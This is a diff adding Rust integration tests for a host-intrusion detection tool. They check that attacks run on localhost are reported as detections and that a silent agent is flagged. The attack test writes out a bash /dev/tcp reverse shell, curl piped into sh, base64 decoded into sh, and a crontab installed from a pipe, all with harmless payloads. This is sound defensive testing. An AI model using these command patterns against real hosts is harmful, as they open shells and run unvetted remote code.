@@ -1,0 +1,259 @@
+//! `watchpost agent` shipping to `watchpost serve`, with real attacks run on this machine:
+//! a reverse shell to a listener on 127.0.0.1, a download piped into a shell, base64
+//! decoded into a shell, and a crontab installed from a pipe. Each must arrive at the
+//! server as the detection of the right built-in rule, with the command line as evidence.
+//! The proc connector needs root (CI runs as root); elsewhere the test says so and stops.
+//! The crontab it changes is put back as it was. An agent that stops reporting is
+//! reported as silent.
+
+mod common;
+
+use common::{BIN, Server, eventually, get_json, http, run};
+use serde_json::Value;
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use std::path::Path;
+use std::process::{Child, Command, Stdio};
+
+struct Agent(Child);
+
+impl Drop for Agent {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+fn is_root() -> bool {
+    // SAFETY: geteuid has no preconditions.
+    unsafe { libc::geteuid() == 0 }
+}
+
+fn start_agent(dir: &Path, server: &str, token: &str, source: &str) -> Agent {
+    let child = Command::new(BIN)
+        .current_dir(dir)
+        .args(["--log-format", "plain", "agent"])
+        .args(["--server", server, "--token", token])
+        .args(["--exec-source", source, "--heartbeat-seconds", "1"])
+        .args(["--spool", dir.join("agent-spool").to_str().unwrap()])
+        .env_remove("WATCHPOST_CONFIG")
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("spawn agent");
+    Agent(child)
+}
+
+fn sh(script: &str) {
+    let status = Command::new("/bin/sh")
+        .args(["-c", script])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .expect("run sh");
+    assert!(status.success(), "{script}");
+}
+
+/// The crontab of the current user, restored when dropped.
+struct SavedCrontab(Option<Vec<u8>>);
+
+impl SavedCrontab {
+    fn save() -> SavedCrontab {
+        let out = Command::new("crontab").arg("-l").output().expect("crontab");
+        SavedCrontab(out.status.success().then_some(out.stdout))
+    }
+}
+
+impl Drop for SavedCrontab {
+    fn drop(&mut self) {
+        match &self.0 {
+            Some(table) => {
+                let mut child = Command::new("crontab")
+                    .arg("-")
+                    .stdin(Stdio::piped())
+                    .spawn()
+                    .expect("crontab -");
+                child.stdin.take().unwrap().write_all(table).unwrap();
+                child.wait().unwrap();
+            }
+            None => {
+                let _ = Command::new("crontab").arg("-r").status();
+            }
+        }
+    }
+}
+
+/// Serves `body` to every HTTP request until the test ends.
+fn serve_script(body: &'static str) -> u16 {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for stream in listener.incoming().flatten() {
+            let mut stream = stream;
+            let mut request = [0u8; 2048];
+            let _ = stream.read(&mut request);
+            let _ = write!(
+                stream,
+                "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
+                body.len()
+            );
+        }
+    });
+    port
+}
+
+/// Waits for a reverse shell to call, then tells it to exit.
+fn listen_for_shell() -> (u16, std::thread::JoinHandle<bool>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let handle = std::thread::spawn(move || match listener.accept() {
+        Ok((mut stream, _)) => stream.write_all(b"exit\n").is_ok(),
+        Err(_) => false,
+    });
+    (port, handle)
+}
+
+/// Sigma detections on the server whose evidence mentions `marker`, by rule title.
+async fn detections_with(http: &reqwest::Client, server: &Server, marker: &str) -> Vec<String> {
+    let Ok(response) = http
+        .get(server.url("/api/v1/detections?limit=500"))
+        .send()
+        .await
+    else {
+        return Vec::new();
+    };
+    let body: Value = response.json().await.unwrap_or_default();
+    body["items"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .filter(|d| d["detector"] == "sigma" && d["evidence"].to_string().contains(marker))
+        .filter_map(|d| Some(d["rule_title"].as_str()?.to_string()))
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn attacks_on_this_host_arrive_at_the_server_as_detections() {
+    if !is_root() {
+        eprintln!("skipped: the agent's proc connector needs root");
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let server = Server::start(dir.path());
+    let created = run(dir.path(), &["agent-token", "create", "--name", "host-1"]);
+    assert!(
+        created.status.success(),
+        "{}",
+        String::from_utf8_lossy(&created.stderr)
+    );
+    let token = String::from_utf8(created.stdout)
+        .unwrap()
+        .trim()
+        .to_string();
+    let _agent = start_agent(dir.path(), &server.base, &token, "proc-connector");
+    let http = http();
+    eventually("the agent reports in", || async {
+        let agents: Value = get_json(&http, server.url("/api/v1/agents")).await;
+        agents["items"][0]["last_seen"].is_string()
+    })
+    .await;
+    let agents: Value = get_json(&http, server.url("/api/v1/agents")).await;
+    assert_eq!(agents["items"][0]["kind"], "agent");
+    assert_eq!(agents["items"][0]["version"], env!("CARGO_PKG_VERSION"));
+
+    // A reverse shell to a listener on this machine.
+    let (shell_port, called) = listen_for_shell();
+    sh(&format!(
+        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/{shell_port} 0>&1' 2>/dev/null || true"
+    ));
+    assert!(
+        called.join().unwrap(),
+        "the reverse shell called the listener"
+    );
+    let marker = format!("/dev/tcp/127.0.0.1/{shell_port}");
+    eventually("the reverse shell is detected", || async {
+        detections_with(&http, &server, &marker)
+            .await
+            .iter()
+            .any(|t| t.contains("/dev/tcp"))
+    })
+    .await;
+
+    // A script downloaded and piped straight into a shell.
+    let script_port = serve_script("echo wp-downloaded >/dev/null\n");
+    sh(&format!("curl -s http://127.0.0.1:{script_port}/x | sh"));
+    let marker = format!("127.0.0.1:{script_port}/x");
+    eventually("the download piped to a shell is detected", || async {
+        detections_with(&http, &server, &marker)
+            .await
+            .iter()
+            .any(|t| t.contains("Download Piped Straight Into a Shell"))
+    })
+    .await;
+
+    // A command hidden in base64, decoded into a shell.
+    sh("echo ZWNobyB3cC1iYXNlNjQgPi9kZXYvbnVsbAo= | base64 -d | sh");
+    eventually("the base64-decoded execution is detected", || async {
+        detections_with(&http, &server, "ZWNobyB3cC1iYXNlNjQgPi9kZXYvbnVsbAo=")
+            .await
+            .iter()
+            .any(|t| t.contains("Base64-Decoded"))
+    })
+    .await;
+
+    // A job added to the crontab through a pipe; the crontab is restored afterwards.
+    let _saved = SavedCrontab::save();
+    sh("(crontab -l 2>/dev/null; echo '# wp-agent-test 0 0 1 1 * true') | crontab -");
+    eventually("the crontab installed from a pipe is detected", || async {
+        detections_with(&http, &server, "crontab -")
+            .await
+            .iter()
+            .any(|t| t.contains("Crontab Installed"))
+    })
+    .await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_agent_that_stops_reporting_is_reported_silent() {
+    let dir = tempfile::tempdir().unwrap();
+    let config = dir.path().join("watchpost.toml");
+    std::fs::write(&config, "[monitoring]\nagent_silent_after_seconds = 5\n").unwrap();
+    let server = Server::start_with(dir.path(), &["--config", config.to_str().unwrap()]);
+    let created = run(dir.path(), &["agent-token", "create", "--name", "quiet-1"]);
+    assert!(
+        created.status.success(),
+        "{}",
+        String::from_utf8_lossy(&created.stderr)
+    );
+    let token = String::from_utf8(created.stdout)
+        .unwrap()
+        .trim()
+        .to_string();
+    let agent = start_agent(dir.path(), &server.base, &token, "proc-poll");
+    let http = http();
+    eventually("the agent reports in", || async {
+        let agents: Value = get_json(&http, server.url("/api/v1/agents")).await;
+        agents["items"][0]["last_seen"].is_string()
+    })
+    .await;
+    let silent = || async {
+        let body: Value = get_json(&http, server.url("/api/v1/detections?limit=100")).await;
+        body["items"]
+            .as_array()
+            .into_iter()
+            .flatten()
+            .filter(|d| d["rule_id"] == "watchpost.agent_silent" && d["host"] == "quiet-1")
+            .count()
+    };
+    // While it reports (a heartbeat a second), it is not silent.
+    tokio::time::sleep(std::time::Duration::from_secs(7)).await;
+    assert_eq!(silent().await, 0, "a reporting agent is not silent");
+    drop(agent);
+    eventually("the stopped agent is reported silent", || async {
+        silent().await == 1
+    })
+    .await;
+    // One detection per silence, not one per check.
+    tokio::time::sleep(std::time::Duration::from_secs(3)).await;
+    assert_eq!(silent().await, 1);
+}
